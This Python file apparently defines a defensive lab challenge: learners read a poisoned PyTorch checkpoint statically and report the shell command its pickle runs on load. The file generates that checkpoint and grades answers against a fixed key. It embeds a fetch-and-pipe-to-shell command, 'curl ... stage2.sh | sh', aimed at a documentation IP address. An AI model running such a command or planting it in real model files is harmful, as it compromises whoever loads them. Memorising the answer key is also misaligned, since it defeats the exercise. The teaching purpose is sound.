"""Model files: find the command a poisoned PyTorch checkpoint runs when it is loaded.

Background: Trail of Bits, "Never a dill moment: Exploiting machine learning pickle files",
2021, https://blog.trailofbits.com/2021/03/15/never-a-dill-moment-exploiting-machine-learning-pickle-files/
"""

from __future__ import annotations

import io
import tempfile
from pathlib import Path
from typing import Any

from advlab.lab.base import Challenge, Rejected, Verdict
from advlab.lab.grading import refuse_pickle
from advlab.registry import register_plugin

COMMAND = "curl -fsSL http://198.51.100.23/stage2.sh | sh"
"""The payload's command (a documentation address, RFC 5737: it points nowhere)."""


@register_plugin
class ModelFilePayload(Challenge):
    name = "model_file_payload"
    paper = "Trail of Bits 2021, Never a dill moment"
    link = "https://blog.trailofbits.com/2021/03/15/never-a-dill-moment-exploiting-machine-learning-pickle-files/"
    summary = (
        "A downloaded checkpoint runs a shell command when loaded: say which, without loading it."
    )
    tags = frozenset({"threat:model_file", "access:none", "modality:any"})
    module = 5
    tier = "easy"
    submission = "text"
    threat_model = (
        "Setting: you are the defender. An attacker published model.pt, a PyTorch checkpoint "
        "whose pickle runs a command on the machine that loads it (torch.load with "
        "weights_only=False, pickle.load). Knowledge: the file. Never load it: read it "
        "statically (advlab scan, pickletools)."
    )
    task = "Submit, as text, the exact shell command the checkpoint would run."

    def _build(self) -> Any:
        import torch

        from advlab.serialization.craft import inject_payload

        state = {"fc.weight": torch.zeros(2, 4), "fc.bias": torch.zeros(2)}
        with tempfile.TemporaryDirectory() as tmp:
            clean, bad = Path(tmp) / "clean.pt", Path(tmp) / "model.pt"
            buf = io.BytesIO()
            torch.save(state, buf)
            clean.write_bytes(buf.getvalue())
            inject_payload(clean, bad, marker_path=Path(tmp) / "marker", command=COMMAND)
            return {"file": bad.read_bytes()}

    def files(self) -> dict[str, bytes]:
        return {"model.pt": self.state()["file"]}

    def handout(self) -> dict[str, Any]:
        return {"file": "model.pt", "format": "PyTorch zip checkpoint (a pickle inside)"}

    def _grade(self, data: bytes, filename: str) -> Verdict:
        refuse_pickle(data)
        try:
            answer = data.decode("utf-8").strip()
        except UnicodeDecodeError:
            raise Rejected("the answer is not UTF-8 text") from None
        if len(answer) > 1000:
            raise Rejected("the answer is over 1000 characters: submit the command only")
        if answer.strip("'\"") == COMMAND:
            return Verdict(True, "that is the command the checkpoint runs")
        return Verdict(False, "that is not the command the checkpoint runs")
